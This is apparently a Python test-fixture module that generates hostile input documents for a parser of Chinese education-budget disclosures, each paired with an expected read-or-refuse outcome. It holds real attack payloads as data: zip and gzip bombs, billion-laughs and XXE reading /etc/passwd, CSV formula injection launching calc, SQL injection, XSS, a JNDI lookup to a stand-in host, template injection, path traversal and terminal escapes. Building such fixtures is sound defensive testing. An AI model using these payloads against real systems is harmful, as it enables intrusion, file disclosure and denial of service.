"""Documents made to do harm, by name; each must be read or refused as said here, quickly, and harm no other.

`docs/security.md` lists the same names.
"""

from __future__ import annotations

import codecs
import gzip
import random
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

HEAD = "随州市教育局2023年部门预算公开\n目录\n第一部分 部门概况\n"
#: Two rows that add up, so that a document that is read has facts to lose.
TABLE = """部门支出总表
单位：万元
科目编码	科目名称	合计	基本支出	项目支出
205	教育支出	130.00	100.00	30.00
20501	教育管理事务	130.00	100.00	30.00
"""
GOOD = HEAD + TABLE
READ = "read"


def _projects(*names: str) -> str:
    rows = "".join(f"{name}\t{at}.50\n" for at, name in enumerate(names, 1))
    return f"{GOOD}项目支出表\n单位：万元\n项目名称\t金额\n{rows}"


def _row(code: str, name: str, *figures: str) -> str:
    return GOOD + "\t".join([code, name, *figures]) + "\n"


def _zip_bomb() -> bytes:
    buffer = BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED) as file:
        file.writestr("document.xml", b"\0" * 20_000_000)
    return buffer.getvalue()


def _of_bytes() -> dict[str, tuple[bytes, str]]:
    noise = random.Random(5).randbytes(200_000)  # noqa: S311 - no secret
    return {
        "nothing at all": (b"", "empty"),
        "a byte order mark alone": (codecs.BOM_UTF8, "empty"),
        "a million NULs": (b"\0" * 1_000_000, "empty"),
        "random bytes": (noise, "unreadable_encoding"),
        "every byte in turn": (bytes(range(256)) * 1_000, "unreadable_encoding"),
        "a character cut in two": (GOOD.encode()[:-1] + "表".encode()[:2], "unreadable_encoding"),
        "an overlong slash": (GOOD.encode() + b"\xc0\xaf\xff", "unreadable_encoding"),
        "a surrogate in UTF-8": (GOOD.encode() + b"\xed\xa0\x80\xff", "unreadable_encoding"),
        "a lone surrogate in UTF-16": (
            codecs.BOM_UTF16_LE + GOOD.encode("utf-16-le") + b"\x00\xd8",
            "unreadable_encoding",
        ),
        "half a character in UTF-16": (codecs.BOM_UTF16_LE + GOOD.encode("utf-16-le")[:-1], "unreadable_encoding"),
        "UTF-8 and GB18030 in one": (HEAD.encode() + TABLE.encode("gb18030"), "unreadable_encoding"),
        "UTF-32": (codecs.BOM_UTF32_LE + GOOD.encode("utf-32-le"), READ),
        "NULs between characters": ("\0".join(GOOD).encode(), "unreadable_encoding"),
        "marks in the middle": (GOOD.replace("\n", "\n\ufeff").encode(), READ),
        "gzip of 20 MB": (gzip.compress(b"\0" * 20_000_000), "unsupported_format"),
        "a zip of 20 MB": (_zip_bomb(), "unsupported_format"),
        "a PDF that goes on as text": (b"%PDF-1.7\n" + GOOD.encode(), "unsupported_format"),
        "text that goes on as a PDF": (GOOD.encode() + b"\n%PDF-1.7\n1 0 obj << /JS (app.alert(1)) >> endobj\n", READ),
    }


def _of_length() -> dict[str, tuple[str, str]]:
    return {
        "a line of a million characters": (GOOD + "字" * 1_000_000, READ),
        "a line of a million pipes": (GOOD + "|" * 1_000_000, READ),
        "a line of 100,000 tabs": (GOOD + "5\t" * 100_000, READ),
        "a header of 100,000 columns": (GOOD + "合计 |" * 100_000 + "\n", READ),
        "a million empty lines": (GOOD + "\n" * 1_000_000, READ),
        "a million blanks": (GOOD + " " * 1_000_000 + "1", READ),
        "20,000 titles": (HEAD + "部门收支总表\n" * 20_000 + TABLE, READ),
        "2,000 departments": (GOOD + "".join(f"单位名称：第{at}局\n" for at in range(2_000)), READ),
        "a bracket 100,000 deep": (GOOD + "（" * 100_000 + "1" + "）" * 100_000, READ),
        "an element 100,000 deep": (GOOD + "<div>" * 100_000 + "1" + "</div>" * 100_000, READ),
        "an array 100,000 deep": (GOOD + "[" * 100_000 + "]" * 100_000, READ),
        "a billion laughs": (
            '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">'
            + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
            + f"]><a>&i;</a>\n{GOOD}",
            READ,
        ),
        "an entity from a file": (f'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>\n{GOOD}', READ),
        "letters for a slow pattern": (GOOD + "a" * 100_000 + "!" + "=" * 100_000, READ),
        "commas for a slow pattern": (GOOD + "1," * 100_000 + "x", READ),
        "years for a slow pattern": (GOOD + "2023年" * 50_000, READ),
        "numerals for a slow pattern": (GOOD + "一" * 50_000 + "十百千万亿" * 10_000, READ),
        "marks for a slow pattern": (GOOD + "、（一）1." * 30_000, READ),
        "rows that only guessing could place": (
            GOOD
            + "科目编码 | 科目名称 | 合计 | 基本支出 | 项目支出 |\n"
            + "205 | 教育支出 | 1.00 | 1.00 |||\n" * 2_000,
            READ,
        ),
    }


def _of_figures() -> dict[str, tuple[str, str]]:
    return {
        "a number of 400 digits": (_row("20502", "普通教育", "9" * 400, "1.00", "1.00"), READ),
        "a number of a million digits": (_row("20502", "普通教育", "9" * 1_000_000, "1.00", "1.00"), READ),
        "400 digits after the point": (_row("20502", "普通教育", "0." + "0" * 400 + "1", "1.00", "1.00"), READ),
        "an exponent": (_row("20502", "普通教育", "1e999999999", "1E+400", "-1e-999999999"), READ),
        "no number and no end": (_row("20502", "普通教育", "NaN", "Infinity", "-inf"), READ),
        "signs and points": (_row("20502", "普通教育", "--5", "1.2.3.4", "1,2,3,4"), READ),
        "just too large to store": (_row("20502", "普通教育", "9999999999999999.99", "9999999999999.99", "1.00"), READ),
        "sums too large to store": (
            GOOD + "".join(f"{2050200 + at}\t普通教育\t99999999999.99\t1.00\t1.00\n" for at in range(500)),
            READ,
        ),
        "years that never are": (GOOD + "99999999999年预算，0000年决算，2023000000年收入5万元。\n", READ),
        "a percentage without end": (GOOD + f"支出5万元，增长{'9' * 400}%，下降{'1' * 30}.{'3' * 300}％。\n", READ),
        "digits of every script": (_row("20502", "普通教育", "١٢٣", "१२३", "𝟏𝟐𝟑.𝟎𝟎"), READ),
        "circled, raised and Roman digits": (_row("20502", "普通教育", "①②③", "1²³", "Ⅳ⑴⒈"), READ),
        "blanks that can not be seen in a number": (
            _row("20502", "普通教育", "1\u200b30.00", "1\u00ad0", "1\u20600"),
            READ,
        ),
        "money in words": (GOOD + f"支出{'玖' * 5_000}亿元，比上年增加{'壹拾' * 5_000}万元。\n", READ),
    }


def _of_characters() -> dict[str, tuple[str, str]]:
    return {
        "marks of direction": (_projects("\u202e00.031费经\u202c", "\u2066窗口\u2069运行", "\u200f项目"), READ),
        "10,000 accents on a letter": (_projects("a" + "\u0301" * 10_000), READ),
        "a character that unfolds to eighteen": (_projects("\ufdfa" * 20_000), READ),
        "characters that are none": (_projects("\uffff\ufffe\U0010ffff", "\ue000\U000f0000", "\ufffd\ufffd"), READ),
        "every control character": (_projects("".join(map(chr, range(1, 32)))), READ),
        "orders to a terminal": (_projects("\x1b]0;owned\x07\x1b[2J\x1b[31m窗口", "\x9b31m运行", "\x1b[8m藏"), READ),
        "ends of lines of every kind": (GOOD.replace("\n", "\r") + "\u2028\u2029\x85\x0b\x0c\x1c\x1d\x1e", READ),
        "letters that change their length": (_projects("İ" * 10_000 + "ß" * 10_000 + "ﬀ" * 10_000), READ),
    }


def _of_words() -> dict[str, tuple[str, str]]:
    return {
        "formulas": (
            _projects("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", '=HYPERLINK("http://x.test","点击")', "\t=1"),
            READ,
        ),
        "statements of SQL": (
            _projects(
                "'); drop table dim_document; --",
                "' or '1'='1",
                "\"; attach '/etc/passwd' as x; --",
                "$$; copy (select 1) to '/tmp/owned'; $$",
                "/* */ union select * from read_text('/etc/passwd')",
            ),
            READ,
        ),
        "a page with a script": (
            f"<html><script>alert(1)</script><img src=x onerror=alert(1)><pre>\n{GOOD}</pre></html>",
            READ,
        ),
        "names that are elements": (
            _projects("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!--", "]]>", "&lt;b&gt;"),
            READ,
        ),
        "names that are Markdown": (
            _projects("| a | b |", "![x](javascript:alert(1))", "[x](file:///etc/passwd)"),
            READ,
        ),
        "names that are markup of the terminal": (
            _projects("[/red]窗口", "[bold red]运行", "[link=file:///etc]x[/]"),
            READ,
        ),
        "templates": (_projects("{{ 7*7 }}", "${jndi:ldap://x.test/a}", "{0.__class__}", "%s%n%x", "$(reboot)"), READ),
        "a department that is a path": (GOOD.replace("随州市教育局", "../../../etc/随州市教育局"), "not_a_disclosure"),
        "names that are paths": (
            _projects("../../etc/passwd", "/dev/zero", "C:\\CON", "file:///etc/passwd", "~root"),
            READ,
        ),
        "rows of CSV": (_projects('"', '""",', "a\rb", "a,b;c", '"unclosed'), READ),
        "names that end a cell": (_projects("\\N", "NULL", "None", "nan", "-"), READ),
        "a name of 100,000 characters": (_projects("窗口运行" * 25_000), READ),
        "one name 5,000 times": (_projects(*["窗口运行"] * 5_000), READ),
    }


def documents() -> dict[str, tuple[bytes, str]]:
    """Each hostile document by name, and what becomes of it: `read`, or the reason why it is refused."""
    texts = {**_of_length(), **_of_figures(), **_of_characters(), **_of_words()}
    return {**_of_bytes(), **{name: (text.encode(), outcome) for name, (text, outcome) in texts.items()}}
